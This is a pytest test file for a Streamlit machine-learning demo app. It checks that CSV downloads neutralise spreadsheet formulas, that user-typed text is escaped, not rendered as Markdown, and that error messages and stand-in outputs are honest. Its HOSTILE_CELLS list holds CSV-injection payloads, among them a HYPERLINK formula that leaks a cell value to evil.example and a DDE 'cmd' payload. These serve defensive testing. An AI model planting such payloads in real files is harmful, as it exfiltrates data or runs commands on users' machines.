"""What the app writes out is safe where it lands: CSVs in a spreadsheet, users' text in every viewer's page, and
messages and files that say what actually happened (issue 17, items 1, 2 and 7)."""
from __future__ import annotations

import io
from collections.abc import Callable
from pathlib import Path

import pandas as pd
import pytest
import torch
from PIL import Image
from streamlit.runtime.media_file_manager import MediaFileManager
from streamlit.testing.v1 import AppTest

from app_pages.common import literal
from core.app_state import get_backend
from core.errors import BadInputError, ModelUnavailableError
from core.formatting import precision_label
from core.models import loading
from core.models.registry import MODELS, Family, custom_spec
from core.tasks import pnginfo, tables
from core.tasks.images import decode_image
from core.tasks.jobs import Job, JobState
from core.tasks.sd_settings import GenerationSettings
from helpers import wait_for_generation_runs

HOME = str(Path(__file__).resolve().parent.parent / "Home.py")
HOSTILE_CELLS = ['=HYPERLINK("http://evil.example/?leak="&A1,"click")', "=1+1", "@SUM(A1)", "+cmd|'/c calc'!A0", "-2+3", "\t=1", "\r=1"]
# Markdown, Streamlit's directives, math, HTML and an image a browser would fetch.
HOSTILE_TEXT = "**bold** :red[x] $x^2$ <b>tag</b> ![img](http://127.0.0.1:9/x.png)"


def open_page(path: str) -> AppTest:
    at = AppTest.from_file(HOME, default_timeout=60).run()
    at.switch_page(path).run()
    assert not at.exception
    return at


def markdown_sources(at: AppTest) -> list[str]:
    """The Markdown source of every element that renders Markdown."""
    kinds = ("markdown", "caption", "subheader", "info", "warning", "error", "success")
    return [str(element.value) for kind in kinds for element in getattr(at, kind)]


# 1. Spreadsheet-safe CSV -----------------------------------------------------------------------------------------


@pytest.mark.parametrize("cell", HOSTILE_CELLS)
def test_a_text_cell_a_spreadsheet_would_run_is_quoted(cell):
    assert tables.spreadsheet_safe(cell) == "'" + cell


@pytest.mark.parametrize("cell", ["-0.5", "+3", "-12", "1e-3", "-.5", "hello", "a=b", "", "007"])
def test_text_that_is_a_plain_number_or_starts_harmlessly_stays_as_written(cell):
    assert tables.spreadsheet_safe(cell) == cell


def test_numeric_cells_stay_numbers_and_missing_cells_stay_missing():
    assert tables.spreadsheet_safe(-0.5) == -0.5 and tables.spreadsheet_safe(-3) == -3
    frame = pd.DataFrame({"score": [-0.5, 0.25], "text": ["=1+1", None]})
    written = pd.read_csv(io.BytesIO(tables.to_csv_bytes(frame)))
    assert written["score"].tolist() == [-0.5, 0.25] and written["score"].dtype == float
    assert written["text"].iloc[0] == "'=1+1" and pd.isna(written["text"].iloc[1])


def test_every_hostile_cell_and_column_name_is_neutralised_in_the_csv():
    frame = pd.DataFrame({"=cmd": HOSTILE_CELLS, "n": range(len(HOSTILE_CELLS))})
    written = pd.read_csv(io.BytesIO(tables.to_csv_bytes(frame)), dtype=str, keep_default_na=False)
    assert written.columns.tolist() == ["'=cmd", "n"]
    assert written["'=cmd"].tolist() == ["'" + cell for cell in HOSTILE_CELLS]


def test_a_bare_carriage_return_or_newline_in_a_cell_keeps_the_rows_and_columns():
    frame = pd.DataFrame({"id": ["1", "2", "3"], "text": ["before\rafter", "two\nlines", "cr\r\nlf"], "label": ["a", "b", "c"]})
    written = pd.read_csv(io.BytesIO(tables.to_csv_bytes(frame)), dtype=str, keep_default_na=False)
    assert written.equals(frame)


def capture_downloads(monkeypatch) -> dict[str, Callable[[], bytes]]:
    """File name -> the bytes of every download button the page draws: its data, or the callable a browser's click
    would call (a deferred download)."""
    captured: dict[str, Callable[[], bytes]] = {}
    add, add_deferred = MediaFileManager.add, MediaFileManager.add_deferred

    def add_data(self, data, mimetype, coordinates, file_name=None, **kwargs):
        if file_name is not None:
            captured[file_name] = lambda: data
        return add(self, data, mimetype, coordinates, file_name, **kwargs)

    def add_callable(self, data_callable, mimetype, coordinates, file_name=None, **kwargs):
        captured[file_name] = data_callable
        return add_deferred(self, data_callable, mimetype, coordinates, file_name, **kwargs)

    monkeypatch.setattr(MediaFileManager, "add", add_data)
    monkeypatch.setattr(MediaFileManager, "add_deferred", add_callable)
    return captured


def test_the_sentiment_pages_csv_download_round_trips_hostile_texts(app_env, monkeypatch):
    downloads = capture_downloads(monkeypatch)
    texts = [*HOSTILE_CELLS, "a plain review", "line one\rline two"]
    upload = pd.DataFrame({"id": [f"{i:03d}" for i in range(len(texts))], "review": texts, "delta": ["-0.5"] * len(texts)})
    data = upload.to_csv(index=False, lineterminator="\r\n").encode()
    at = open_page("app_pages/sentiment.py")
    at.file_uploader(key="sentiment:file").upload("hostile.csv", data, "text/csv").run()
    assert next(box for box in at.selectbox if box.label == "Column with the text").value == "review"
    at.button(key="sentiment:run").click().run()
    if "sentiment:csv_run" in at.session_state:
        assert at.session_state["sentiment:csv_run"].job.wait(120)
        at.run()
    assert not at.exception
    name = "hostile-sentiment-standin-random-weights.csv"
    written = pd.read_csv(io.BytesIO(downloads[name]()), dtype=str, keep_default_na=False)
    assert written.columns.tolist() == ["id", "review", "delta", "label", "score", "truncated"]
    assert len(written) == len(texts)
    assert written["review"].tolist() == ["'" + text for text in HOSTILE_CELLS] + ["a plain review", "line one\rline two"]
    assert written["id"].tolist() == upload["id"].tolist() and set(written["delta"]) == {"-0.5"}  # numbers stay numbers
    assert all(not cell.startswith(tables.FORMULA_STARTS) for cell in written["label"])


def test_the_hot_dog_csv_neutralises_a_file_name_and_names_a_stand_in(app_env, monkeypatch):
    downloads = capture_downloads(monkeypatch)
    at = open_page("app_pages/hotdog.py")
    png = io.BytesIO()
    Image.new("RGB", (32, 32), "red").save(png, format="PNG")
    uploader = at.file_uploader(key="hotdog:upload")
    uploader.upload("=HYPERLINK(1).png", png.getvalue(), "image/png").upload("plain.png", png.getvalue(), "image/png").run()
    assert not at.exception
    written = pd.read_csv(io.BytesIO(downloads["hotdog-results-standin-random-weights.csv"]()), dtype=str)
    assert written["file"].tolist() == ["'=HYPERLINK(1).png", "plain.png"]


# 2. User text is never rendered ------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("text", "escaped"),
    [
        ("**bold**", r"\*\*bold\*\*"),
        (":red[x]", r"\:red\[x\]"),
        (":material/home:", r"\:material/home:"),
        ("$x^2$", r"\$x^2\$"),
        ("![img](http://host/x.png)", r"!\[img\](http\://host/x.png)"),
        ("<img src=x>", r"\<img src=x\>"),
        ("&lt;", r"\&lt;"),
        ("# heading\n- item\n1. first", "\\# heading\n\\- item\n1\\. first"),
        ("plain words, a: b. 3.5", "plain words, a: b. 3.5"),
    ],
)
def test_literal_escapes_what_markdown_would_read_as_syntax(text, escaped):
    assert literal(text) == escaped


def test_typed_text_file_names_and_column_names_show_literally_on_the_sentiment_page(app_env):
    at = open_page("app_pages/sentiment.py")
    at.text_input(key="sentiment:model").input(HOSTILE_TEXT).run()
    assert any(literal(f"model {HOSTILE_TEXT!r}") in error for error in markdown_sources(at))

    at.text_input(key="sentiment:model").input(MODELS["sentiment"].repo_id).run()
    name = "**report** $1$.csv"
    column = ":red[review] ![img](http://127.0.0.1:9/x.png)"
    at.file_uploader(key="sentiment:file").upload(name, f'id,"{column}"\n1,nice\n2,awful film\n'.encode(), "text/csv").run()
    at.button(key="sentiment:run").click().run()
    if "sentiment:csv_run" in at.session_state:
        assert at.session_state["sentiment:csv_run"].job.wait(120)
        at.run()
    sources = " ".join(markdown_sources(at))
    assert literal(name) in sources and literal(column) in sources
    assert "**report**" not in sources and ":red[review]" not in sources and "![img](" not in sources


def test_a_prompt_and_a_typed_model_id_show_literally_on_the_generation_page(app_env):
    at = open_page("app_pages/generate.py")
    at.toggle(key="generate:random_seed").set_value(False).run()
    at.text_area(key="generate:prompt").input(HOSTILE_TEXT)
    at.text_area(key="generate:negative").input("__under__ `code`")
    for name, value in {"width": 64, "height": 64, "steps": 2, "seed": 1}.items():
        at.number_input(key=f"generate:{name}").set_value(value)
    at.run().button(key="generate:start").click().run()
    wait_for_generation_runs(at, 60)
    at.run()
    caption = next(text for text in markdown_sources(at) if "“" in text)
    assert caption.startswith(f"“{literal(HOSTILE_TEXT)}” · not: “{literal('__under__ `code`')}”")
    assert "![img](" not in " ".join(markdown_sources(at))

    at.selectbox(key="generate:model").set_value("custom").run()
    at.text_input(key="generate:custom").input("**x** :red[y]").run()
    assert any(literal("'**x** :red[y]'") in error for error in markdown_sources(at))


# 7. Messages fit the situation -------------------------------------------------------------------------------------


def test_precision_is_written_one_way(app_env):
    assert [precision_label(d) for d in (torch.float32, torch.float16, torch.bfloat16)] == ["fp32", "fp16", "bf16"]
    assert precision_label("bfloat16") == precision_label("torch.bfloat16") == "bf16" and precision_label("int8") == "int8"


def test_home_the_vram_monitor_and_the_hot_dog_page_show_the_precision_in_use(app_env, monkeypatch):
    # As on a CPU with native bf16 and DASH_CPU_BF16 on: the transformers models load in bf16, the rest in fp32.
    monkeypatch.setattr("core.models.manager.pick_dtype", lambda device, family=None, cpu_bf16=False: torch.bfloat16 if family is Family.TRANSFORMERS else torch.float32)
    hotdog = open_page("app_pages/hotdog.py")
    hotdog.radio(key="hotdog:source").set_value("Samples").run()
    assert any("on cpu (bf16), one batched call" in caption for caption in markdown_sources(hotdog))
    home = AppTest.from_file(HOME, default_timeout=60).run()
    table = home.dataframe[0].value
    assert table.loc[table["Model"] == MODELS["hotdog"].title, "Precision"].item() == "bf16"
    assert not any("fp32" in text for text in markdown_sources(home))  # no precision claimed for every model at once
    vram = open_page("app_pages/vram.py")
    models = next(frame.value for frame in vram.dataframe if "Precision" in frame.value.columns)
    assert models.loc[models["Model"] == MODELS["hotdog"].title, "Precision"].item() == "bf16"
    assert not any("fp32" in text for text in markdown_sources(vram))


def offline_error() -> Exception:
    from huggingface_hub import errors as hub_errors

    return hub_errors.OfflineModeIsEnabled("offline")


def test_a_listed_model_that_cannot_load_never_asks_to_check_a_repo_id():
    spec = MODELS["hotdog"]
    error = loading.classify_load_error(spec, loading.ModelSource(spec.repo_id, is_local=False), offline_error())
    assert "repo id" not in error.remedy and "stand-in" in error.remedy and "cache_fill" in error.remedy


def test_a_typed_model_that_cannot_load_asks_to_check_what_was_typed():
    spec = custom_spec("sentiment", "someone/typo-model")
    error = loading.classify_load_error(spec, loading.ModelSource(spec.repo_id, is_local=False), offline_error())
    assert error.remedy.startswith("Check the repo id (owner/name) or folder you typed")
    assert ModelUnavailableError("x", typed_by_user=True).remedy == ModelUnavailableError.typed_remedy
    assert ModelUnavailableError("x", remedy="given", typed_by_user=True).remedy == "given"


def test_the_hot_dog_page_offline_without_stand_in_tells_what_helps(app_env, monkeypatch):
    monkeypatch.setenv("DASH_STANDIN_FALLBACK", "0")
    get_backend.clear()
    at = open_page("app_pages/hotdog.py")
    at.radio(key="hotdog:source").set_value("Samples").run()
    message = at.error[0].value
    assert "not in the local cache" in message and "repo id" not in message and "cache\\_fill" in message


@pytest.mark.parametrize(
    "make_message",
    [
        lambda: str(loading.classify_load_error(MODELS["hotdog"], loading.ModelSource("x/y", is_local=False), TimeoutError("slow"))),
        lambda: str(loading.classify_load_error(MODELS["hotdog"], loading.ModelSource("x/y", is_local=False), KeyError())),
        lambda: pytest.raises(BadInputError, decode_image, b"\x89PNG junk", "junk.png").value.args[0],
        lambda: pytest.raises(BadInputError, pnginfo.read_parameters, b"\x89PNG junk", "junk.png").value.args[0],
    ],
)
def test_messages_name_no_exception_class(make_message):
    message = make_message()
    assert not any(name in message for name in ("Error", "Exception", "KeyError", "Timeout")), message


def test_a_crashed_job_names_no_exception_class():
    job = Job(lambda context: 1 / 0, "the sum")
    assert job.wait(10) and job.snapshot().state is JobState.FAILED
    assert str(job.snapshot().error) == "the sum failed unexpectedly."


def test_stand_in_images_say_so_in_their_settings_text():
    settings = GenerationSettings(prompt="a cat", seed=3)
    assert "Stand-in: random weights" in pnginfo.parameters_text(settings, "a/b", is_standin=True)
    assert "Stand-in" not in pnginfo.parameters_text(settings, "a/b", is_standin=False)
    assert "Stand-in: random weights" in pnginfo.unconditional_parameters_text(10, 3, "a/b", is_standin=True)
    assert pnginfo.parse_parameters(pnginfo.parameters_text(settings, "a/b", is_standin=True)).settings == settings


def test_the_generation_pages_stand_in_png_says_so_in_its_name_and_text(app_env, monkeypatch):
    downloads = capture_downloads(monkeypatch)
    at = open_page("app_pages/generate.py")
    at.toggle(key="generate:random_seed").set_value(False).run()
    for name, value in {"width": 64, "height": 64, "steps": 2, "seed": 5}.items():
        at.number_input(key=f"generate:{name}").set_value(value)
    at.run().button(key="generate:start").click().run()
    wait_for_generation_runs(at, 60)
    at.run()
    png = downloads["run001-seed5-standin-random-weights.png"]()
    assert "Stand-in: random weights" in pnginfo.read_parameters(png)
